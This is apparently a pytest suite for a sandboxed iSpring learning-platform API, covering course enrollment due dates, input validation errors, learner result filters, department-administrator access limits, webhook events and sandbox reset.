@pytest.mark.parametrize(
    ("extra", "due", "locked"),
    [
        ({"dueDateType": "unlimited", "lockAfterDueDate": True}, None, False),
        ({"dueDateType": "due_date", "dueDate": "2027-05-31"}, "2027-05-31", False),
        (
            {"dueDateType": "due_date", "dueDate": "2027-05-31", "lockAfterDueDate": True},
            "2027-05-31",
            True,
        ),
        ({"dueDateType": "due_period", "duePeriod": 48}, "2027-05-03", False),
    ],
    ids=["unlimited", "due_date", "due_date-locked", "due_period"],
)
async def test_enroll_learners_in_courses_due_date_types(
    api: httpx.AsyncClient, extra: dict[str, Any], due: str | None, locked: bool
) -> None:
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(api, courses, learners, accessDate="2027-05-01 09:00:00", **extra)
    found = await find_enrollment(api, courses[0], learners[0])
    assert found.get("dueDate") == due
    assert found["shouldLockAfterDueDate"] is locked
    assert found.get("expirationDate") == (due if locked else None)


async def test_enroll_learners_in_courses_due_period_is_in_hours(api: httpx.AsyncClient) -> None:
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(
        api,
        courses,
        learners,
        accessDate="2027-05-01T09:00:00Z",
        dueDateType="due_period",
        duePeriod=30,
    )
    found = await find_enrollment(api, courses[0], learners[0])
    result = await result_of(api, found["enrollmentId"])
    due = datetime.fromisoformat(result["dueDate"]) - datetime.fromisoformat(result["accessDate"])
    assert due == timedelta(hours=30)


async def test_enroll_learners_in_courses_default_due_date_is_the_course_default(
    api: httpx.AsyncClient, backend: ISpringBackend
) -> None:
    periods = {
        doc["contentItemId"]: doc["defaultDuePeriod"] for doc in backend.content.docs.values()
    }
    courses, learners = await free_pairs(api, 40, 1)
    with_default = next(c for c in courses if periods[c])
    without = next(c for c in courses if periods.get(c) is None)
    await enroll(
        api, [with_default, without], learners, accessDate="2027-01-01", dueDateType="default"
    )
    first = await result_of(
        api, (await find_enrollment(api, with_default, learners[0]))["enrollmentId"]
    )
    span = datetime.fromisoformat(first["dueDate"]) - datetime.fromisoformat(first["accessDate"])
    assert span == timedelta(hours=periods[with_default])
    assert "dueDate" not in await find_enrollment(api, without, learners[0])


@pytest.mark.parametrize(
    ("change", "fragment"),
    [
        ({"dueDateType": None}, "dueDateType"),
        ({"dueDateType": "someday"}, "dueDateType"),
        ({"dueDateType": "due_date"}, "dueDate"),
        ({"dueDateType": "due_date", "dueDate": "2026-02-30"}, "calendar"),
        (
            {"dueDateType": "due_date", "dueDate": "2020-01-01", "accessDate": "2027-01-01"},
            "before",
        ),
        ({"dueDateType": "due_period"}, "duePeriod"),
        ({"dueDateType": "due_period", "duePeriod": 0}, "duePeriod"),
        ({"dueDateType": "due_period", "duePeriod": "12"}, "duePeriod"),
        ({"lockAfterDueDate": "yes"}, "lockAfterDueDate"),
        ({"accessDate": "next week"}, "accessDate"),
        ({"courseIds": []}, "courseIds"),
        ({"learnerIds": "not-a-list"}, "learnerIds"),
        ({"learnerIds": ["12"]}, "learnerIds"),
    ],
)
async def test_enroll_learners_in_courses_invalid_body_is_400_and_changes_nothing(
    api: httpx.AsyncClient, change: dict[str, Any], fragment: str
) -> None:
    courses, learners = await free_pairs(api, 1, 2)
    body = {**enroll_body(courses, learners), **change}
    body = {key: value for key, value in body.items() if value is not None}
    before = await enrollment_count(api)
    answer = await api.post(f"{BASE}/enrollment", json=body)
    assert fragment in assert_error(answer, 400)
    assert await enrollment_count(api) == before


async def test_enroll_learners_in_courses_unknown_learner_is_404_and_changes_nothing(
    api: httpx.AsyncClient,
) -> None:
    courses, learners = await free_pairs(api, 1, 2)
    before = await enrollment_count(api)
    unknown = "3fa85f64-5717-4562-b3fc-2c963f66afa6"
    answer = await api.post(f"{BASE}/enrollment", json=enroll_body(courses, [*learners, unknown]))
    assert unknown in assert_error(answer, 404)
    answer = await api.post(f"{BASE}/enrollment", json=enroll_body([unknown], learners))
    assert unknown in assert_error(answer, 404)
    assert await enrollment_count(api) == before


async def test_change_enrollment_unknown_is_404_and_bad_body_400(api: httpx.AsyncClient) -> None:
    unknown = "3fa85f64-5717-4562-b3fc-2c963f66afa6"
    body = {"accessDate": "2027-01-01", "dueDateType": "unlimited"}
    assert_error(await api.post(f"{BASE}/enrollment/{unknown}", json=body), 404)
    first = (await api.get(f"{BASE}/enrollments", params={"pageSize": 1})).json()["enrollments"][0]
    path = f"{BASE}/enrollment/{first['enrollmentId']}"
    assert "accessDate" in assert_error(
        await api.post(path, json={"dueDateType": "unlimited"}), 400
    )
    assert (await api.get(path)).json() == first


async def test_reenroll_not_started_enrollment_is_409(api: httpx.AsyncClient) -> None:
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(api, courses, learners)
    found = await find_enrollment(api, courses[0], learners[0])
    answer = await api.post(
        f"{BASE}/enrollment/{found['enrollmentId']}/reenroll",
        json={"accessDate": "2027-01-01", "dueDateType": "unlimited"},
    )
    assert "not been started" in assert_error(answer, 409)


async def test_unenroll_unknown_id_is_404_and_deletes_nothing(api: httpx.AsyncClient) -> None:
    first = (await api.get(f"{BASE}/enrollments", params={"pageSize": 1})).json()["enrollments"][0]
    ids = [first["enrollmentId"], "3fa85f64-5717-4562-b3fc-2c963f66afa6"]
    assert_error(await api.post(f"{BASE}/enrollment/delete", json={"enrollmentIds": ids}), 404)
    assert (await api.get(f"{BASE}/enrollment/{first['enrollmentId']}")).status_code == 200
    assert_error(await api.post(f"{BASE}/enrollment/delete", json={}), 400)


# -- results -----------------------------------------------------------------------------------


async def test_list_learner_results_filters_by_status_user_course_and_department(
    api: httpx.AsyncClient,
) -> None:
    everything = await all_pages(api, "/learners/results", "results")
    statuses = {r["completionStatus"] for r in everything}
    assert statuses == {"not_started", "in_progress", "complete", "passed", "failed"}
    passed = await all_pages(
        api,
        "/learners/results",
        "results",
        [("completionStatuses", "passed"), ("completionStatuses", "failed")],
    )
    assert passed and {r["completionStatus"] for r in passed} == {"passed", "failed"}
    assert len(passed) == sum(
        1 for r in everything if r["completionStatus"] in ("passed", "failed")
    )
    someone = everything[0]
    mine = await all_pages(api, "/learners/results", "results", [("userIds", someone["userId"])])
    assert {r["userId"] for r in mine} == {someone["userId"]}
    course = await all_pages(
        api, "/learners/results", "results", [("courseIds[]", someone["courseId"])]
    )
    assert {r["courseId"] for r in course} == {someone["courseId"]}
    user = (await api.get(f"{BASE}/user/{someone['userId']}")).json()["response"]
    dept = await all_pages(
        api, "/learners/results", "results", [("departmentIds", user["departmentId"])]
    )
    members = {
        u["userId"]
        for u in (
            await api.get(f"{BASE}/user", params={"departments[]": user["departmentId"]})
        ).json()
    }
    assert dept and {r["userId"] for r in dept} <= members


async def test_list_learner_results_shows_active_users_by_default(api: httpx.AsyncClient) -> None:
    status = {u["userId"]: u["status"] for u in (await api.get(f"{BASE}/user/v2")).json()}
    default = await all_pages(api, "/learners/results", "results")
    assert {status[r["userId"]] for r in default} == {1}
    blocked = await all_pages(
        api, "/learners/results", "results", [("userStatuses", 3), ("userStatuses", 5)]
    )
    assert blocked and {status[r["userId"]] for r in blocked} == {3, 5}


async def test_list_learner_results_date_range_filters(api: httpx.AsyncClient) -> None:
    start, end = "2025-01-01T00:00:00Z", "2025-06-30T23:59:59Z"
    done = await all_pages(
        api,
        "/learners/results",
        "results",
        [("completionDate[startDate]", start), ("completionDate[endDate]", end)],
    )
    assert done
    assert all("2025-01-01" <= r["completionDate"][:10] <= "2025-06-30" for r in done)
    since = await all_pages(
        api, "/learners/results", "results", [("accessDate[startDate]", "2026-10-01")]
    )
    assert since and all(r["accessDate"] >= "2026-10-01" for r in since)
    due = await all_pages(api, "/learners/results", "results", [("dueDate[endDate]", "2026-01-01")])
    assert due and all(r["dueDate"] <= "2026-01-01" for r in due)
    bad = await api.get(f"{BASE}/learners/results", params={"accessDate[startDate]": "June"})
    assert "accessDate" in assert_error(bad, 400)


@pytest.mark.parametrize(
    ("name", "value"), [("completionStatuses", "finished"), ("userStatuses", "2"), ("userIds", "x")]
)
async def test_list_learner_results_bad_filter_is_400(
    api: httpx.AsyncClient, name: str, value: str
) -> None:
    assert name in assert_error(
        await api.get(f"{BASE}/learners/results", params={name: value}), 400
    )


async def test_list_learner_results_is_overdue_follows_the_clock(
    sandbox_app: Starlette, api: httpx.AsyncClient, creds: dict[str, str]
) -> None:
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(api, courses, learners, dueDateType="due_period", duePeriod=2)
    enrollment_id = (await find_enrollment(api, courses[0], learners[0]))["enrollmentId"]
    assert (await result_of(api, enrollment_id))["isOverdue"] is False
    sandbox_of(sandbox_app).clock.advance(3 * 3600)  # the token has expired too: a new one
    token = await issue(api, creds["client_id"], creds["client_secret"])
    api.headers["Authorization"] = f"Bearer {token}"
    assert (await result_of(api, enrollment_id))["isOverdue"] is True


async def test_list_learner_results_finished_is_never_overdue(api: httpx.AsyncClient) -> None:
    results = await all_pages(api, "/learners/results", "results")
    assert any(r["isOverdue"] for r in results)
    assert not any(
        r["isOverdue"] for r in results if r["completionStatus"] in ("complete", "passed", "failed")
    )
    assert all("dueDate" in r for r in results if r["isOverdue"])


# -- department administrators -----------------------------------------------------------------


async def outside_and_inside(
    api: httpx.AsyncClient, dept_api: httpx.AsyncClient
) -> tuple[list[str], list[str]]:
    everyone = {u["userId"] for u in (await api.get(f"{BASE}/user")).json() if u["status"] == 1}
    mine = {u["userId"] for u in (await dept_api.get(f"{BASE}/user")).json() if u["status"] == 1}
    assert mine and mine < everyone
    return sorted(everyone - mine), sorted(mine)


async def test_list_operations_of_department_admin_cover_only_their_departments(
    api: httpx.AsyncClient, dept_api: httpx.AsyncClient
) -> None:
    departments = (await dept_api.get(f"{BASE}/department")).json()["departments"]
    assert 1 < len(departments) < len((await api.get(f"{BASE}/department")).json()["departments"])
    scope = {d["departmentId"] for d in departments}
    users = await all_pages(dept_api, "/users/v2", "userProfiles")
    assert users and all(u["departmentId"] in scope for u in users)
    members = {u["userId"] for u in users}
    enrollments = await all_pages(dept_api, "/enrollments", "enrollments")
    assert enrollments and all(e["learnerId"] in members for e in enrollments)
    everyone = await all_pages(api, "/enrollments", "enrollments")
    assert len(enrollments) == sum(1 for e in everyone if e["learnerId"] in members)
    results = await all_pages(dept_api, "/learners/results", "results")
    assert results and all(r["userId"] in members for r in results)


async def test_enroll_learners_in_courses_outside_learner_is_403_for_department_admin(
    api: httpx.AsyncClient, dept_api: httpx.AsyncClient
) -> None:
    outside, inside = await outside_and_inside(api, dept_api)
    courses, _ = await free_pairs(api, 1, 1, users=[inside[0], outside[0]])
    before = await enrollment_count(api)
    answer = await dept_api.post(
        f"{BASE}/enrollment", json=enroll_body(courses, [inside[0], outside[0]])
    )
    assert outside[0] in assert_error(answer, 403)
    assert await enrollment_count(api) == before


async def test_enroll_learners_in_courses_department_admin_reaches_sub_departments(
    api: httpx.AsyncClient, dept_api: httpx.AsyncClient
) -> None:
    _outside, inside = await outside_and_inside(api, dept_api)
    scope = (await dept_api.get(f"{BASE}/department")).json()["departments"]
    managed = (await dept_api.get(f"{BASE}/user")).json()
    sub_ids = {
        d["departmentId"]
        for d in scope
        if d.get("parentDepartmentId") in {s["departmentId"] for s in scope}
    }
    in_sub = [u["userId"] for u in managed if u["departmentId"] in sub_ids and u["status"] == 1]
    assert in_sub
    courses, learners = await free_pairs(api, 1, 2, users=[inside[0], in_sub[0]])
    answer = await dept_api.post(f"{BASE}/enrollment", json=enroll_body(courses, learners))
    assert answer.status_code == 201
    for learner in learners:
        await find_enrollment(api, courses[0], learner)


async def test_get_user_and_enrollment_outside_scope_are_403_for_department_admin(
    api: httpx.AsyncClient, dept_api: httpx.AsyncClient
) -> None:
    outside, _inside = await outside_and_inside(api, dept_api)
    assert_error(await dept_api.get(f"{BASE}/user/{outside[0]}"), 403)
    assert_error(await dept_api.get(f"{BASE}/user/{outside[0]}/v2"), 403)
    theirs = (await api.get(f"{BASE}/enrollment", params={"learnerIds[]": outside})).json()
    enrollment_id = theirs["enrollments"][0]["enrollmentId"]
    assert_error(await dept_api.get(f"{BASE}/enrollment/{enrollment_id}"), 403)
    body = {"accessDate": "2027-01-01", "dueDateType": "unlimited"}
    assert_error(await dept_api.post(f"{BASE}/enrollment/{enrollment_id}", json=body), 403)
    assert_error(await dept_api.post(f"{BASE}/enrollment/{enrollment_id}/reenroll", json=body), 403)
    delete = await dept_api.post(
        f"{BASE}/enrollment/delete", json={"enrollmentIds": [enrollment_id]}
    )
    assert_error(delete, 403)
    assert (await api.get(f"{BASE}/enrollment/{enrollment_id}")).status_code == 200


# -- events, errors, reset ---------------------------------------------------------------------


async def test_enroll_learners_in_courses_records_learners_enrolled_in_course(
    api: httpx.AsyncClient,
) -> None:
    courses, learners = await free_pairs(api, 2, 2)
    await enroll(api, courses, learners)
    events = (await api.get("/_sandbox/events", params={"vendor": "ispring"})).json()["events"]
    assert [e["event"] for e in events] == ["LEARNERS_ENROLLED_IN_COURSE"] * 2
    body = events[0]["body"]
    assert body["subscriptionType"] == "LEARNERS_ENROLLED_IN_COURSE"
    assert body["payload"]["courseId"] == courses[0]
    assert {learner["userId"] for learner in body["payload"]["learners"]} == set(learners)
    await enroll(api, courses, learners)  # nothing new: no event
    assert (
        len((await api.get("/_sandbox/events", params={"vendor": "ispring"})).json()["events"]) == 2
    )


async def test_reenroll_records_course_status_changed(api: httpx.AsyncClient) -> None:
    done = await api.get(
        f"{BASE}/learners/results", params={"completionStatuses": "passed", "pageSize": 1}
    )
    result = done.json()["results"][0]
    answer = await api.post(
        f"{BASE}/enrollment/{result['enrollmentId']}/reenroll",
        json={"accessDate": "2027-01-01", "dueDateType": "unlimited"},
    )
    assert answer.status_code == 200
    events = (await api.get("/_sandbox/events", params={"vendor": "ispring"})).json()["events"]
    (event,) = events
    assert event["event"] == "COURSE_STATUS_CHANGED"
    payload = event["body"]["payload"]
    assert (payload["previousStatus"], payload["status"]) == ("passed", "not_started")
    assert payload["enrollmentId"] == result["enrollmentId"]


async def test_unknown_path_is_404_and_wrong_method_405_in_the_asked_format(
    api: httpx.AsyncClient,
) -> None:
    assert_error(await api.get(f"{BASE}/nothing/here"), 404)
    answer = await api.put(f"{BASE}/enrollments")
    assert_error(answer, 405)
    assert "POST" in answer.headers["allow"]
    xml = await api.get(f"{BASE}/nothing", headers={"Accept": "application/xml"})
    assert xml.status_code == 404 and xml_of(xml).findtext("code") == "404"


async def test_enroll_learners_in_courses_body_over_limit_is_413(api: httpx.AsyncClient) -> None:
    answer = await api.post(
        f"{BASE}/enrollment",
        content=b'{"x": "' + b"a" * (2 << 20) + b'"}',
        headers={"Content-Type": "application/json"},
    )
    assert_error(answer, 413)


async def test_reset_restores_seeded_enrollments(api: httpx.AsyncClient) -> None:
    before = (await api.get(f"{BASE}/enrollment")).json()
    courses, learners = await free_pairs(api, 1, 1)
    await enroll(api, courses, learners)
    first = before["enrollments"][0]["enrollmentId"]
    await api.post(f"{BASE}/enrollment/delete", json={"enrollmentIds": [first]})
    assert (await api.post("/_sandbox/reset")).status_code == 200
    assert (await api.get(f"{BASE}/enrollment")).json() == before
